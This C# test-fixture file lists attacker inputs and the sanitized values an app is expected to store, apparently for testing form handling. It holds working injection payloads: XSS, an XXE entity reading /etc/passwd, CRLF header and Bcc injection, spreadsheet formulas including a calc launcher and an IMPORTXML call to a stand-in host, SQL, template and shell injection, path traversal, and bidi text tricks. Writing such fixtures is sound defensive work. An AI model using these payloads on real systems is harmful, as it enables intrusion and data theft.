using System.Text;

namespace Pipeline.Tests.Submissions;

/// <summary>
/// Inputs of an attacker. The name of an injected line, element or attribute begins with <see cref="Mark"/>, so that a test
/// finds it in the output.
/// </summary>
public static class MaliciousInputs
{
    public const string Mark = "zq";

    public static readonly IReadOnlyList<string> All =
    [
        // Scripts, and ends of the surrounding markup.
        "<script>zq1()</script>", "</script><script>zq2()</script>", "<ScRiPt src=//zq.example></sCrIpT>",
        "<img src=x onerror=zq3()>", "<svg/onload=zq4()>", "\"><zq-5>", "'><zq-6>", "\" onmouseover=\"zq7()",
        "' onfocus='zq8()' autofocus='", "` onerror=zq9()", "</title><zq-10>", "</textarea><zq-11>", "</option></select><zq-12>",
        "</style><zq-13>", "--><zq-14><!--", "<!--<zq-15>", "]]><zq-16>", "<![CDATA[<zq-17>]]>",
        "<?xml version=\"1.0\"?><zq-18/>", "<!DOCTYPE zq [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;", "&lt;zq-19&gt;",
        "&#60;zq-20&#62;", "&#x3c;zq-21&#x3e;", "&zq;&#0;&#xD800;&#x110000;", "<zq-22", "<a href=\"javascript:zq()\">x</a>",
        "<iframe srcdoc=\"<script>zq()</script>\">", "<base href=//zq.example/>",
        "<meta http-equiv=refresh content=0;url=//zq.example>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=zq()>",
        "<noscript><p title=\"</noscript><img src=x onerror=zq()>\">", "<form action=//zq.example><input name=zq>",
        "<template><zq-23></template>", "<plaintext>", "<zq-24\u0130>", "\uff1cscript\uff1ezq()\uff1c/script\uff1e",
        "javascript:zq()", "JaVaScRiPt://zq.example/%0azq()", " \u0001javascript:zq()", "java\nscript:zq()",
        "data:text/html,<script>zq()</script>", "data:text/html;base64,PHpxPg==", "vbscript:zq()", "file:///etc/passwd",
        "https://zq.example/\"onmouseover=\"zq()", "https://user:zq@example.org/", "https://zq.example\\@example.org/",
        "//zq.example/", "https://ex\u0430mple.org/zq", "https://exam\u200bple.org/zq", "http://[::1]/zq",
        "https://zq.example/?a=<zq-25>&b='c'#\"d\"", "https://xn--zq/", "https://xn--zq.example/",
        "https://zq.example/" + new string('a', 3_000),
        "https://" + new string('b', 300) + ".example/", "https://zq..example/", "https://zq.example:99999/",
        "https://\u2067.example/",
        // Lines of headers and of the log.
        "a\r\nzq-Header: yes", "a\nzq-Header: yes", "a\rzq-Header: yes", "a\u0085zq-Header: yes", "a\u2028zq-Header: yes",
        "a\u2029zq-Header: yes", "a\vzq-Header: yes", "a\fzq-Header: yes", "a%0d%0azq-Header:%20yes",
        "a\r\nBcc: zq@example.org\r\n\r\nzq", "a\r\n.\r\nzq", "=?utf-8?q?=0Azq-Header:_yes?=",
        "zq@example.org\r\nBcc: other@example.org", "<zq@example.org>, other@example.org", "a\u001b[31mzq\u001b]0;zq\a",
        "a\bzq\u007f", "2026-11-24 ERROR zq\n2026-11-24 INFO zq",
        // Characters that are invisible or change the direction of text.
        "\u202ezq\u202c", "a\u202ezq", "a\u2067zq", "a\u2069\u2069zq", "\u2066\u2067\u2068zq\u2069",
        string.Concat(Enumerable.Repeat("\u202a\u202e", 80)) + "zq",
        string.Concat(Enumerable.Repeat("\u2067", 80)) + "zq" + string.Concat(Enumerable.Repeat("\u2069", 80)),
        "\u200b\u200b\u200b\u200b", "\u200d\u200c\u2060\ufeff\u00ad", "z\u200bq\u200c\u200d", "\ufeffzq",
        "zq\U000E0001\U000E0041\U000E007F", "\U0001F3F4\U000E0067\U000E0062\U000E007Fzq", "zq\ufe0f\ufe0f\ufe0f", "\ufffczq",
        "\ufff9zq\ufffazq\ufffb", "\ue000zq\U0010FFFD", "\u3164\u3164\u3164", "\u061czq\u200f",
        "z" + new string('\u0301', 10_000), "z" + string.Concat(Enumerable.Repeat("\u0301\u0323", 5_000)),
        "z" + string.Concat(Enumerable.Repeat("\u0335\u0489\u20dd", 4)) + "q", new string('\u0301', 20), "\u0fbczq",
        // Formulas.
        "=cmd|' /C calc'!A0", "+1+zq", "-1-zq", "@SUM(zq)", "\t=zq", "\r=zq", "=HYPERLINK(\"https://zq.example\";\"zq\")",
        "=IMPORTXML(CONCAT(\"https://zq.example/\",A1),\"//a\")", "%0A=zq",
        // Templates, formats, queries, paths.
        "{{7*7}}zq", "${7*7}zq", "#{7*7}zq", "<%= 7*7 %>zq", "{{constructor.constructor('zq()')()}}", "@(7*7)zq @{ } @@",
        "%s%n%x zq", "{0} {1} {99} zq", "{zq}", "-name- -zq-", "%unsubscribe% zq", "{{{unsubscribe}}} zq", "<%unsubscribe%> zq",
        "[unsubscribe] zq", "%unsubscribe-00000000000000000000000000000000% zq", "$(zq)`zq`;zq|zq", "' or '1'='1 zq",
        "' or PartitionKey ne 'zq", "'; DROP TABLE Practices; -- zq", "\\'zq", "$filter=Status eq 'Pending' zq",
        "../../etc/passwd zq", "..\\..\\zq", "/zq/%2e%2e/%2f", "zq?x#y/\\", "CON zq.", "{\"title\":\"zq\"}", "[\"zq\"]", "null",
        "true", "undefined", "NaN", "1e999", "-0", "0x41", "__proto__", "\\u0000zq\\ud800",
        // Too long, too short, or not text.
        "", " ", "\0", "a\0zq", "\ud800zq", "zq\udc00", "\udc00\ud800zq", "\uffffzq", "\ufffezq", "\ufdd0zq", "\U0001FFFEzq",
        "a\u001fzq", "a\u009fzq", new string('W', 201), new string('W', 10_001), new string('<', 9_000),
        Repeat("\u2028", 300) + "zq", Repeat("😀", 200), "a" + Repeat("😀", 1_000), Repeat("😀", 1_000), Repeat("&", 200),
        Repeat("\n", 5_000) + "zq", Repeat("<b>", 60), "👩‍👩‍👧‍👦👩🏽‍🚀🏳️‍🌈🇺🇳 zq", "محمد zq الأمين", "שָׁלוֹם zq", "zq نص (1) [2]",
        "Zażółć gęślą jaźń zq", "ﷺﷺﷺ zq", "İıſK zq", "\u0958\u0959 zq", "ệ\u0323\u0302 zq", "𝓏𝓆 zq", "\u1100\u1161\u11a8 zq",
        "ཧྐྵྨླྺྼྻྂ zq",
    ];

    // What is stored for the inputs that are not stored unchanged. Null: refused in every text field. The values are written by
    // hand, so that they do not depend on the rules of the app.
    private static readonly Dictionary<string, string?> StoredLines = new()
    {
        ["java\nscript:zq()"] = "java script:zq()",
        ["https://\u2067.example/"] = "https://.example/",
        ["a\r\nzq-Header: yes"] = "a zq-Header: yes",
        ["a\nzq-Header: yes"] = "a zq-Header: yes",
        ["a\rzq-Header: yes"] = "a zq-Header: yes",
        ["a\u0085zq-Header: yes"] = "a zq-Header: yes",
        ["a\u2028zq-Header: yes"] = "a zq-Header: yes",
        ["a\u2029zq-Header: yes"] = "a zq-Header: yes",
        ["a\fzq-Header: yes"] = "a zq-Header: yes",
        ["a\r\nBcc: zq@example.org\r\n\r\nzq"] = "a Bcc: zq@example.org  zq",
        ["a\r\n.\r\nzq"] = "a . zq",
        ["zq@example.org\r\nBcc: other@example.org"] = "zq@example.org Bcc: other@example.org",
        ["2026-11-24 ERROR zq\n2026-11-24 INFO zq"] = "2026-11-24 ERROR zq 2026-11-24 INFO zq",
        ["\r=zq"] = "=zq",
        [Repeat("\u2028", 300) + "zq"] = "zq",
        [Repeat("\n", 5_000) + "zq"] = "zq",
        ["\u202ezq\u202c"] = "zq",
        ["a\u202ezq"] = "azq",
        ["a\u2067zq"] = "azq",
        ["a\u2069\u2069zq"] = "azq",
        ["\u2066\u2067\u2068zq\u2069"] = "zq",
        [Repeat("\u202a\u202e", 80) + "zq"] = "zq",
        ["\u200b\u200b\u200b\u200b"] = "",
        ["\u200d\u200c\u2060\ufeff\u00ad"] = "",
        ["\u3164\u3164\u3164"] = "",
        [" "] = "",
        ["\ufeffzq"] = "zq",
        ["zq\U000E0001\U000E0041\U000E007F"] = "zq",
        ["zq\ufe0f\ufe0f\ufe0f"] = "zq\ufe0f",
        ["\ufffczq"] = "zq",
        ["\ufff9zq\ufffazq\ufffb"] = "zqzq",
        [" \u0001javascript:zq()"] = "javascript:zq()",
        ["a\vzq-Header: yes"] = "a zq-Header: yes",
        ["a\u001b[31mzq\u001b]0;zq\a"] = "a[31mzq]0;zq",
        ["a\bzq\u007f"] = "azq",
        ["\t=zq"] = "=zq",
        ["\0"] = "",
        ["a\0zq"] = "azq",
        ["a\u001fzq"] = "azq",
        ["a\u009fzq"] = "azq",
        ["\uffffzq"] = "zq",
        ["\ufffezq"] = "zq",
        ["\ufdd0zq"] = "zq",
        ["\U0001FFFEzq"] = "zq",
        ["z\u200bq\u200c\u200d"] = "zq",
        ["\u061czq\u200f"] = "zq",
        ["https://exam\u200bple.org/zq"] = "https://example.org/zq",
        [Repeat("\u2067", 80) + "zq" + Repeat("\u2069", 80)] = "zq",
        ["\ud800zq"] = null,
        ["zq\udc00"] = null,
        ["\udc00\ud800zq"] = null,
        ["z" + new string('\u0301', 10_000)] = null,
        ["z" + Repeat("\u0301\u0323", 5_000)] = null,
        [new string('\u0301', 20)] = null,
    };

    // What is stored for the inputs that are accepted as a link.
    private static readonly Dictionary<string, string> StoredLinks = new()
    {
        ["https://zq.example/\"onmouseover=\"zq()"] = "https://zq.example/%22onmouseover=%22zq()",
        ["https://ex\u0430mple.org/zq"] = "https://xn--exmple-4nf.org/zq",
        ["https://exam\u200bple.org/zq"] = "https://example.org/zq",
        ["http://[::1]/zq"] = "http://[::1]/zq",
        ["https://zq.example/?a=<zq-25>&b='c'#\"d\""] = "https://zq.example/?a=%3Czq-25%3E&b='c'#%22d%22",
        ["https://xn--zq.example/"] = "https://xn--zq.example/",
    };

    /// <summary>What is stored in a field of one line, without a limit of its length. Null if the input is refused.</summary>
    public static string? StoredLine(string input) => StoredLines.TryGetValue(input, out var stored) ? stored : input.Normalize();

    /// <summary>What is stored in a field of several lines if the input is followed by the line <paramref name="more"/>.</summary>
    public static string? StoredText(string input, string more)
    {
        if (StoredLine(input) is not { } line)
            return null;
        // Fillers are invisible, but they have a width.
        if (input is "\u3164\u3164\u3164")
            return $"{input}\n{more}";
        var lines = input.ReplaceLineEndings("\n").Replace('\v', '\n') is var text && text.Contains('\n') ? text.TrimStart() : line;
        return lines.Length == 0 ? more : $"{lines}\n{more}";
    }

    /// <summary>What is stored as a link. Null if the input is refused.</summary>
    public static string? StoredLink(string input) => StoredLine(input) is "" ? "" : StoredLinks.GetValueOrDefault(input);

    /// <summary>True if the text is well-formed Unicode. A form can send only such text.</summary>
    public static bool IsUnicode(string text) => Encoding.UTF8.GetString(Encoding.UTF8.GetBytes(text)) == text;

    private static string Repeat(string text, int times) => string.Concat(Enumerable.Repeat(text, times));
}
